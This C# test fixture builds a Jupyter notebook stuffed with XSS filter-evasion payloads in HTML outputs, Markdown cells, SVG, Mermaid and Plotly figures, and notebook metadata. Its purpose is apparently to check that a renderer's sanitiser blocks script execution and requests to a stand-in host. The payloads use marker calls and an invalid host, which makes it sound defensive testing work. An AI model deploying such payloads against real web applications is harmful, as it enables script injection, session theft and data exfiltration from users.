// The kinds of OWASP's "XSS Filter Evasion" and of the mutations that parsers and sanitisers were caught by.
using System.Text;
using System.Text.Json.Nodes;

namespace Notebook.Tests.Pages;

/// <summary>A notebook whose outputs and texts try to run <c>raise(name)</c>, to leave the page, or to ask a machine for something.</summary>
internal static class HostileNotebook
{
    /// <summary>What stands for the machine in <see cref="Html"/> and <see cref="Markdown"/>.</summary>
    public const string Host = "http://machine.invalid/";

    private static readonly string Svg64 = Base64(
        $"<svg xmlns='http://www.w3.org/2000/svg' onload='raise(1)'><script>raise(1)</script><image href='{Host}svg.png'/></svg>"
    );

    private static readonly string Page64 = Base64("<script>parent.raise('page')</script>");

    /// <summary>HTML, each of them an output.</summary>
    public static IReadOnlyList<string> Html { get; } =
    [
        "<script>raise('script')</script>",
        "<SCRIPT/XSS SRC=\"" + Host + "a.js\"></SCRIPT>",
        "<script src=//machine.invalid/b.js></script>",
        "<script type=module>raise('module')</script>",
        "<<SCRIPT>raise('twice');//\\<</SCRIPT>",
        "<scr<script>ipt>raise('nested')</scr</script>ipt>",
        "<script type=\"application/json\">{}</script><script type=\" application/vnd.plotly.v1+json\">raise('type')</script>",
        "<script type=\"application/vnd.plotly.v1+json\">raise('no json')</script>",
        "<script type=\"application/vnd.plotly.v1+json\" src=\""
            + Host
            + "c.js\">{\"data\":\"</scr\\u0069pt><img src=x onerror=raise('data')>\"}</script>",
        "<img src=x onerror=raise('onerror')>",
        "<img src=`x`onerror=raise('backticks')>",
        "<img src=x:x onerror=\"raise('scheme')\" name=\"getElementById\" id=\"querySelectorAll\">",
        "<img/src=x/onerror=raise('slashes')//",
        "<IMG \"\"\"><SCRIPT>raise('quotes')</SCRIPT>\">",
        "<img src=x onerror&#61;\"raise('entity')\" onerror=\"raise&#40;'entities'&#41;\">",
        "<body onload=raise('body') background=\"" + Host + "d.png\" onpageshow=raise('pageshow')>",
        "<svg onload=raise('svg')>",
        "<svg><script>raise('svg script')</script></svg>",
        "<svg><script href=\"data:text/javascript,raise('href')\" /></svg>",
        "<svg><animate onbegin=raise('animate') attributeName=x dur=1s></svg>",
        "<svg><a><animate attributeName=href values=\"javascript:raise('values')\" /><text y=20>a link</text></a></svg>",
        "<svg><set attributeName=href to=\"javascript:raise('set')\"></set><use href=\"data:image/svg+xml;base64,"
            + Svg64
            + "#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.raise('foreign')</script>\"></iframe><img src=x onerror=raise('foreign')></foreignObject></svg>",
        "<svg><style><img src=x onerror=raise('svg style')></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=raise('svg p')>\"></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=raise('mglyph')&gt;\">",
        "<math><mtext><table><mglyph><style><math><img src onerror=raise('math')></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=raise('form') src>\">",
        "<math><annotation-xml encoding=\"text/html\"><style><!--</style><img src onerror=raise('annotation')></annotation-xml></math>",
        "<math href=\"javascript:raise('math link')\">a formula</math>",
        "<noscript><p title=\"</noscript><img src=x onerror=raise('noscript')>\"></noscript>",
        "<template><style></template></style><img src=x onerror=raise('template')></template>",
        "<template shadowrootmode=open><img src=x onerror=raise('shadow')></template>",
        "<title><a id=\"</title><img src=x onerror=raise('title')>\"></title>",
        "<textarea><p id=\"</textarea><img src=x onerror=raise('textarea')>\"></textarea>",
        "<xmp><p id=\"</xmp><img src=x onerror=raise('xmp')>\"></xmp><noembed><a title=\"</noembed><img src=x onerror=raise('noembed')>\"></noembed>",
        "<iframe src=\"javascript:parent.raise('frame')\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;parent.raise('srcdoc')&lt;/script&gt;\"></iframe>",
        "<iframe src=\"data:text/html;base64," + Page64 + "\"></iframe><iframe src=\"" + Host + "e.html\"></iframe>",
        "<frameset onload=raise('frameset')><frame src=\"" + Host + "f.html\"></frameset>",
        "<object data=\"data:text/html;base64,"
            + Page64
            + "\"></object><embed src=\"data:image/svg+xml;base64,"
            + Svg64
            + "\"><applet code=\""
            + Host
            + "g\"></applet>",
        "<object data=\""
            + Host
            + "h.swf\"><param name=url value=\""
            + Host
            + "i\"></object><portal src=\""
            + Host
            + "\"></portal>",
        "<a href=\"javascript:raise('link')\" class=\"click\">link</a>",
        "<a href=\"JaVaScRiPt:raise('case')\" class=\"click\">case</a>",
        "<a href=\"jav&#x09;ascript:raise('tab')\" class=\"click\">tab</a>",
        "<a href=\"java\nscript:raise('newline')\" class=\"click\">newline</a>",
        "<a href=\" &#14;  javascript:raise('control')\" class=\"click\">control</a>",
        "<a href=\"&#106;avascript&colon;raise('entity')\" class=\"click\">entity</a>",
        "<a href=\"vbscript:raise('vb')\" class=\"click\">vb</a><a href=\"data:text/html;base64,"
            + Page64
            + "\" class=\"click\">data</a>",
        "<a href=\"//machine.invalid/j\" ping=\""
            + Host
            + "k\">no scheme</a><a href=\"\\\\machine.invalid\\l\">share</a>",
        "<a href=\"#\" onclick=\"raise('click')\" onmouseover=\"raise('over')\" onfocus=\"raise('focus')\" class=\"click\" tabindex=1 autofocus>handlers</a>",
        "<map name=m><area href=\"javascript:raise('area')\" shape=default class=\"click\"></map><img usemap=#m src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
        "<form action=\"javascript:raise('form')\"><input type=submit class=\"click\" value=send><button formaction=\"javascript:raise('formaction')\" class=\"click\">send</button></form>",
        "<form action=\""
            + Host
            + "l\" id=f></form><button form=f class=\"click\">post</button><input type=image src=\""
            + Host
            + "m.png\" onerror=raise('image')>",
        "<input autofocus onfocus=raise('autofocus')><select onfocus=raise('select') autofocus><option>a</option></select><textarea onfocus=raise('area') autofocus></textarea>",
        "<details open ontoggle=raise('toggle')><summary>more</summary></details><marquee onstart=raise('marquee')>text</marquee>",
        "<video src=x onerror=raise('video')><source onerror=raise('source')></video><audio src=x onerror=raise('audio') autoplay></audio><video poster=\""
            + Host
            + "n.png\"></video>",
        "<div style=\"animation-name:x\" onanimationstart=raise('animation')></div><style>@keyframes x{}</style>",
        "<meta http-equiv=refresh content=\"0;url="
            + Host
            + "o\"><meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,"
            + Page64
            + "\">",
        "<base href=\"" + Host + "\"><base target=_blank><a href=\"#\" class=\"click\">base</a>",
        "<link rel=stylesheet href=\""
            + Host
            + "p.css\"><link rel=\"dns-prefetch preconnect\" href=\""
            + Host
            + "\"><link rel=import href=\""
            + Host
            + "q\">",
        "<style>@import '"
            + Host
            + "r.css';@import url("
            + Host
            + "s.css);@font-face{font-family:f;src:url("
            + Host
            + "t.woff)}body{font-family:f}</style>",
        "<style>body{background:url("
            + Host
            + "u.png)!important}a{color:red;background:u\\72l('"
            + Host
            + "v.png')}</style>",
        "<style>main{display:none!important}.summary,.count{visibility:hidden}:root{--ink:red}* ~ main{opacity:0}</style>",
        "<style>.x::after{content:\"</style><img src=x onerror=raise('style')>\"}</style>",
        "<style>.y{width:expression(raise('expression'));behavior:url("
            + Host
            + "w.htc);-moz-binding:url("
            + Host
            + "x.xml#y)}</style>",
        "<style>}} .z{color:red} @media all{ main{display:none} </style>",
        "<style>@media screen{main{display:none!important}}@supports (display:block){main{display:none!important}}@layer a{main{display:none!important}}</style>",
        "<style>@media x; body{;*{display:none!important}}</style>",
        "<style>@media x;@import \"" + Host + "10.css\";body{;main{display:none!important}}</style>",
        "<style>@media screen{a;*{display:none!important}}</style><style>a;body{;*{display:none!important}}</style>",
        "<style>@media ({a{b:c}), x{main{display:none!important}}</style><style>a(,main{display:none!important}</style>",
        "<style>a{background:image-set(\""
            + Host
            + "11.png\" 1x)}</style><a href=\"#\" style=\"background:url("
            + Host
            + "12.png)\">u</a><a href=\"#\" style=\"background:image-set('"
            + Host
            + "13.png' 1x)\">u</a>",
        "<div style=\"background-image:url(javascript:raise('url'))\">u</div><div style=\"background:url("
            + Host
            + "y.png);list-style:url('"
            + Host
            + "z.png')\">u</div>",
        "<div style=\"position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:red\" class=\"overlay\">over the page</div>",
        "<div style=\"--x:url(" + Host + "1.png);background:var(--x);cursor:url(" + Host + "2.cur),auto\">v</div>",
        "<table background=\""
            + Host
            + "3.png\"><td background=\"javascript:raise('td')\">a</table><img src=\""
            + Host
            + "4.png\" srcset=\""
            + Host
            + "5.png 2x\" lowsrc=\""
            + Host
            + "6.png\">",
        "<picture><source srcset=\""
            + Host
            + "7.png\"><img src=\""
            + Host
            + "8.png\"></picture><img src=\"data:image/svg+xml;base64,"
            + Svg64
            + "\">",
        "<a id=Plotly></a><a id=mermaid></a><a id=exports></a><a id=module></a><a id=define></a><form id=Plotly name=mermaid><input name=react><input name=initialize></form>",
        "<img name=querySelectorAll><img name=body><form name=getElementById></form><iframe name=documentElement></iframe><embed name=createElement>",
        "<div class=\"output chart\"><div class=\"plot\"></div></div><pre class=\"mermaid\">graph LR; A-->B; click A call raise()</pre><div class=\"code\"></div>",
        "<div class=\"tresnet-figure\" data-plotly=\""
            + Host
            + "9.js\"><img class=\"tresnet-picture\" src=\"data:image/svg+xml;base64,"
            + Base64("<img src=x onerror=raise('picture')>")
            + "\"><script type=\"application/vnd.plotly.v1+json\">{}</script></div>",
        "<table class=\"tresnet-table\"><thead onclick=\"raise('thead')\"><tr><th class=\"click\">a</th></tr></thead><tbody><tr><td data-sort=\"<img src=x onerror=raise('sort')>\">1</td></tr></tbody></table>",
        "<!--[if gte IE 4]><script>raise('if')</script><![endif]--><!--><img src=x onerror=raise('comment')>-->",
        "<?xml-stylesheet href=\""
            + Host
            + "a.xsl\"?><![CDATA[<img src=x onerror=raise('cdata')>]]><!ENTITY x SYSTEM \""
            + Host
            + "b\">",
        "</div></section></main><script>raise('closing')</script><plaintext>",
        "<p>unfinished <img src=\"x\" alt=\"",
    ];

    /// <summary>Markdown, each of it a cell.</summary>
    public static IReadOnlyList<string> Markdown { get; } =
    [
        "[link](javascript:raise('markdown'))",
        "[case](JaVaScRiPt:raise%28'markdown'%29) <javascript:raise('auto')> [entity](&#106;avascript:raise('entity'))",
        "[reference][x]\n\n[x]: javascript:raise('reference') \"t\"",
        "![x](data:image/svg+xml;base64," + Svg64 + ") [data](data:text/html;base64," + Page64 + ")",
        "![\"onerror=\"raise('alt')](x.png \"title\\\" onerror=\\\"raise('title')\")",
        "![x](" + Host + "md.png) <img src='" + Host + "md2.png' onerror=raise('inline')>",
        "<script>raise('markdown script')</script>\n\n<div onmouseover=\"raise('div')\">over</div>",
        "# <img src=x onerror=raise('heading')> <script>raise('heading')</script>\n\n## Plotly\n\n## mermaid\n\n## b\n\n## c\n\n## d\n\n## e",
        "```\"><img src=x onerror=raise('fence')>\n</code></pre><script>raise('fence')</script>\n```",
        "$</span><img src=x onerror=raise('formula')>$\n\n$$\n</div><script>raise('formula')</script>\n$$",
        "| a |\n|---|\n| <img src=x onerror=raise('cell')> |\n\nnote[^1]\n\n[^1]: <iframe srcdoc=\"<script>parent.raise('note')</script>\"></iframe>",
        "![x](../outside.png) ![x](/etc/hostname.png)\n\n![x](pipe.png)",
        "![a](attachment:a.svg) ![b](attachment:b.svg) <img src=\"attachment:c.svg\"> ![d](attachment:\"onerror=raise('d'))",
        "<a href=\"java\nscript:raise('raw link')\" class=click>x</a><meta http-equiv=refresh content=\"0;url="
            + Host
            + "md3\">",
    ];

    /// <summary>Figures that plotly.js, or what is done for it, throws on.</summary>
    public static IReadOnlyList<string> OddFigures { get; } =
    [
        """{"data":[{"y":[1]}],"layout":"a word"}""",
        """{"data":[{"y":[1]}],"layout":{"annotations":[null],"title":{"text":5}}}""",
        """{"data":[{"y":[1]}],"layout":{"annotations":"none"}}""",
        "\"no object\"",
    ];

    /// <summary>The notebook as text.</summary>
    /// <param name="host">The machine that is asked.</param>
    /// <param name="more">Cells that are put before these.</param>
    public static string Json(string host, params JsonObject[] more)
    {
        var evil = "\"></title><script>raise('name')</script><img src=x onerror=raise('name')>";
        var cells = new JsonArray([.. more]);
        foreach (var text in Markdown)
        {
            var cell = new JsonObject
            {
                ["cell_type"] = "markdown",
                ["metadata"] = new JsonObject(),
                ["source"] = text,
            };
            cell["attachments"] = new JsonObject
            {
                ["a.svg"] = new JsonObject { ["image/svg+xml"] = Svg64 },
                ["b.svg"] = new JsonObject
                {
                    ["image/svg+xml"] = $"<svg onload=raise('b')><image href='{Host}b.svg'/></svg>",
                },
                ["c.svg"] = new JsonObject { ["image/svg+xml\" onerror=\"raise('c')"] = "x\" onerror=\"raise('c')" },
            };
            cells.Add(cell);
        }

        foreach (var html in Html)
        {
            cells.Add(Code("1", Bundle(("text/html", html))));
        }

        cells.Add(Code("1", Bundle(("text/markdown", Html[0] + "\n\n" + Markdown[0]))));
        cells.Add(Code("1", Bundle(("image/png", "x\" onerror=\"raise('png')"))));
        cells.Add(
            Code(
                "1",
                Bundle(
                    (
                        "image/svg+xml",
                        $"<svg xmlns='http://www.w3.org/2000/svg' onload=\"raise('output')\"><script>raise('output')</script><style>main{{display:none}}</style><image href='{Host}o.png'/></svg>"
                    )
                )
            )
        );
        cells.Add(
            Code(
                "1",
                Bundle(
                    (
                        "text/vnd.mermaid",
                        "%%{init: {\"securityLevel\": \"loose\", \"themeCSS\": \"main{display:none !important}\"}}%%\ngraph LR\n  A[\"<img src=x onerror=raise('label')>\"] --> B\n  click A call raise(\"call\")\n  click B href \"javascript:raise('diagram')\""
                    )
                )
            )
        );
        cells.Add(
            Code(
                "1",
                Bundle(
                    (
                        "application/vnd.plotly.v1+json",
                        """
                        {"data":[{"y":[1,2],"type":"scatter","name":"<img src=x onerror=raise('trace')>","text":["<a href=\"javascript:raise('text')\">t</a>","u"],"mode":"text"}],
                         "layout":{"title":{"text":"<a href=\"javascript:raise('plot')\">title</a><img src=x onerror=raise('plot')></scr"},
                          "images":[{"source":"HOST/plot.png","xref":"paper","yref":"paper","x":0,"y":1,"sizex":1,"sizey":1}],
                          "annotations":[{"x":0,"y":1,"text":"<a href='data:text/html,x' style='background:url(HOST/note.png)'>note</a><script>raise('note')</script>"}]},
                         "config":{"plotlyServerURL":"HOST","topojsonURL":"HOST","showLink":true}}
                        """.Replace("HOST", Host.TrimEnd('/'))
                    ),
                    ("image/svg+xml", "<svg onload=raise('fallback')><script>raise('fallback')</script></svg>")
                )
            )
        );
        // Figures that are none, each of which would end the script of all.
        foreach (var figure in OddFigures)
        {
            cells.Add(
                Code(
                    "1",
                    Bundle(("application/vnd.plotly.v1+json", figure), ("image/svg+xml", "<svg id=\"odd\"></svg>"))
                )
            );
        }

        cells.Add(
            Code(
                "1",
                Bundle(
                    (
                        "text/html",
                        "<div><img src=\"data:,\"><script type=\"application/vnd.plotly.v1+json\">{\"data\":[],\"layout\":\"\\ud800\"}</script></div>"
                    )
                )
            )
        );
        var stream = new JsonObject
        {
            ["output_type"] = "stream",
            ["name"] = evil,
            ["text"] = "\u001b]8;;javascript:raise('ansi')\u0007<img src=x onerror=raise('ansi')>\u001b[0m",
        };
        var error = new JsonObject
        {
            ["output_type"] = "error",
            ["ename"] = evil,
            ["evalue"] = evil,
            ["traceback"] = new JsonArray(evil),
        };
        cells.Add(Code(evil, stream));
        cells.Add(Code("#!" + evil, error));
        var notebook = new JsonObject
        {
            ["cells"] = cells,
            ["metadata"] = new JsonObject
            {
                ["title"] = evil,
                ["kernelspec"] = new JsonObject
                {
                    ["name"] = evil,
                    ["display_name"] = evil,
                    ["language"] = evil,
                },
                ["language_info"] = new JsonObject { ["name"] = evil },
            },
            ["nbformat"] = 4,
            ["nbformat_minor"] = 4,
        };
        return notebook.ToJsonString().Replace(Host, host).Replace("//machine.invalid/", host[host.IndexOf('/')..]);
    }

    /// <summary>A code cell that ran.</summary>
    public static JsonObject Code(string source, JsonObject output) =>
        new()
        {
            ["cell_type"] = "code",
            ["execution_count"] = 1,
            ["metadata"] = new JsonObject(),
            ["source"] = source,
            ["outputs"] = new JsonArray(output),
        };

    /// <summary>An output in these forms.</summary>
    public static JsonObject Bundle(params (string Type, string Content)[] forms) =>
        new()
        {
            ["output_type"] = "display_data",
            ["metadata"] = new JsonObject(),
            ["data"] = new JsonObject(
                forms.Select(form =>
                    KeyValuePair.Create(
                        form.Type,
                        form.Type.EndsWith("json", StringComparison.Ordinal)
                            ? JsonNode.Parse(form.Content)
                            : form.Content
                    )
                )
            ),
        };

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
}
